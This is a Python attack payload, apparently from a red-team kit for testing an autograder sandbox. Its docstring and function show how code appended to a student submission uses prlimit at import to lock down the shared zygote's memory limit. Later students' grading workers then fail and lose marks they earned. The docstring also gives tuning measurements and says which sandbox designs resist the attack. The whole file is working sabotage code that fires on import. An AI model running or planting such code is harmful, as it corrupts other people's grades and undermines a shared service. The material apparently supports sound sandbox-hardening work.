"""[attnkit-tamper] zygote_prlimit -- family (e): shrink the warm zygote's limits (prlimit), so that
every worker it forks later (other students' stages) inherits them.

Append to a correct stage module, preferably the last one graded (attacker: the solution of
s11_other_forms). The worker's parent is the zygote, which runs under the same dedicated uid and
gid (real, effective and saved): Linux then lets the worker change the zygote's resource limits
with prlimit(2) without any capability (no dumpability check, unlike ptrace). At import the
payload lowers the zygote's RLIMIT_AS (soft and hard, so it can never be raised again) to the
address space the zygote uses now plus 1 MiB. The zygote itself keeps working (it reads requests
and forks), but each worker it forks afterwards starts with almost no room: the first torch
allocation that needs a new mapping fails ("DefaultCPUAllocator: can't allocate memory"), which
the grader reports to the victim as "memory limit of 4 GiB exceeded". (Measured: with 0 bytes of
room the zygote itself soon dies of MemoryError and is replaced, which ends the attack; with 3 MiB
or more the victims' stages fit; 1 MiB costs every later victim points on s07_dropout.)

The attacker's own stages are not affected (the current worker keeps its limits, and s11 is the
last stage). Victim: a correct submission graded after it on the same warm zygote (honest grade:
full marks). Old design: expected to cost the victim points until the zygote is replaced. A
sandbox that reuses no process is immune; one that shares a long-lived parent under the
learner's uid is not.
"""


def _atk_zygote_prlimit():
    import os
    import resource
    import sys

    zygote = os.getppid()
    try:
        with open(f"/proc/{zygote}/statm") as handle:
            used = int(handle.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
    except OSError:
        return
    limit = used + (1 << 20)  # 1 MiB: enough for the zygote's loop, not for some workers' work
    try:
        before = resource.prlimit(zygote, resource.RLIMIT_AS)
        resource.prlimit(zygote, resource.RLIMIT_AS, (limit, limit))
        sys.stderr.write(f"[prlimit] zygote {zygote}: RLIMIT_AS {before} -> {limit}\n")
    except (OSError, ValueError) as exc:
        sys.stderr.write(f"[prlimit] zygote {zygote}: refused ({exc})\n")


_atk_zygote_prlimit()
